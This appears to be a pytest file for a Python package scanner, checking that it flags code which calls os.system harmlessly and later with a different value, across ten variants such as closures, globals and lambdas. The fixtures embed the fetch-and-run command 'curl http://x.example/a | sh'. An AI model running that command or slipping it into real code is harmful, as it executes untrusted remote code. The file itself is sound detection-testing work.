"""A function that was harmless when it was first called is looked at again once it would do
something else."""

from __future__ import annotations

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
WAYS = {
    "keyword": "def f(a=None, b=None):\n    os.system(b)\nf(a=BAD)\nf(b=BAD)\n",
    "global": "def f():\n    os.system(C)\nC = 'ls'\nf()\nC = BAD\nf()\n",
    "item": "C = ['ls']\ndef f():\n    os.system(C[0])\nf()\nC[0] = BAD\nf()\n",
    "set by a function": (
        "C = 'ls'\ndef g():\n    global C\n    C = BAD\ndef f():\n    os.system(C)\nf()\ng()\nf()\n"
    ),
    "attribute": "class S: pass\nS.c = 'ls'\ndef f():\n    os.system(S.c)\nf()\nS.c = BAD\nf()\n",
    "instance": (
        "class A:\n    def __init__(self, c):\n        self.c = c\n"
        "    def run(self):\n        os.system(self.c)\nA('ls').run()\nA(BAD).run()\n"
    ),
    "closure": (
        "def make(c):\n    def f():\n        os.system(c)\n    return f\nmake('ls')()\nmake(BAD)()\n"
    ),
    "enclosing call": (
        "def g():\n    c = 'ls'\n    def f():\n        os.system(c)\n    f()\n    c = BAD\n    f()\ng()\n"
    ),
    "nonlocal": (
        "def g():\n    c = 'ls'\n    def f():\n        nonlocal c\n        c = BAD\n    f()\n"
        "    os.system(c)\ng()\n"
    ),
    "lambda": "f = lambda: os.system(C)\nC = 'ls'\nf()\nC = BAD\nf()\n",
}


@pytest.mark.parametrize("way", WAYS)
def test_second_call_with_something_else(way: str) -> None:
    source = "import os\n" + WAYS[way].replace("BAD", repr(COMMAND))
    found = observe(distribution_of({"pkg/__init__.py": source}))
    assert "shell_download" in {evidence.feature for evidence in found}
